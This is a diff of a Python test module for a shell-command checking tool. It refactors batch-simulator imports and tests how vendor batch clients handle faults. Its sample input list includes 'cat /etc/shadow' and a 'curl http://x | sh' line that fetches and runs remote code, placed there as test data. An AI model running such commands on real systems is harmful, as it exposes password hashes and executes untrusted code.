@@ -1,4 +1,4 @@
-"""The vendors' own clients and the simulator's batches: creation, results, faults and bill."""
+"""The vendors' own clients and the batches of the tests' provider: creation, results, faults and bill."""
 
 import asyncio
 import io
@@ -19,9 +19,10 @@ from google.genai import types
 from openai import OpenAI
 
 from aegish_dist.simulator.bill import Tariff
-from aegish_dist.simulator.config import BatchPlan, CallFault, EndFault, Endpoint, SimulatorConfig
 from aegish_dist.simulator.personas import NO_LATENCY
 from aegish_dist.simulator.server import simulator_thread
+from tests.batch_server.plan import BatchPlan, BatchScenario, CallFault, EndFault, Endpoint
+from tests.batch_server.server import BatchSimulator
 
 DEADLINE_S = 20.0
 COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
@@ -187,10 +188,11 @@ NUMBER = 60
 PRICE = Tariff(input=1, output=10)
 
 
-def simulated(seconds: float = 0.02, **plan: Any) -> SimulatorConfig:
+def simulated(seconds: float = 0.02, **plan: Any) -> BatchSimulator:
     """Return a provider whose batches take so long, with a plan of faults."""
     plan = {"duration": f"constant:{seconds}", **plan}
-    return SimulatorConfig(latency=NO_LATENCY, price=PRICE, batches=BatchPlan(**plan))
+    config = BatchScenario(latency=NO_LATENCY, price=PRICE, batches=BatchPlan(**plan))
+    return BatchSimulator(config)
 
 
 def commands(number: int = NUMBER) -> list[str]:
@@ -290,8 +292,8 @@ def test_a_list_may_lag_behind() -> None:
 
 def test_results_may_break_off_and_be_read_again() -> None:
     scripts = {Endpoint.RESULTS: (CallFault.TRUNCATED, CallFault.HANG)}
-    config = simulated(scripts=scripts, hang_s=0.01)
-    with simulator_thread(config) as simulator, anthropic_client(simulator.url) as client:
+    provider = simulated(scripts=scripts, hang_s=0.01)
+    with simulator_thread(provider) as simulator, anthropic_client(simulator.url) as client:
         requests = anthropic_requests(*commands(5))
         name = client.messages.batches.create(requests=requests).id
         anthropic_ended(client, name)
@@ -305,8 +307,8 @@ def test_results_may_break_off_and_be_read_again() -> None:
 
 def test_anthropic_names_errors_by_request_and_refuses_names_that_it_does_not_take() -> None:
     """A failing batch fails each request; a bad or repeated name refuses the whole."""
-    config = simulated(ends={EndFault.FAILED: 1.0})
-    with simulator_thread(config) as simulator, anthropic_client(simulator.url) as client:
+    provider = simulated(ends={EndFault.FAILED: 1.0})
+    with simulator_thread(provider) as simulator, anthropic_client(simulator.url) as client:
         batches = client.messages.batches
         for name in ("a b", "", "t-1"):
             requests = anthropic_requests("ls", "id")
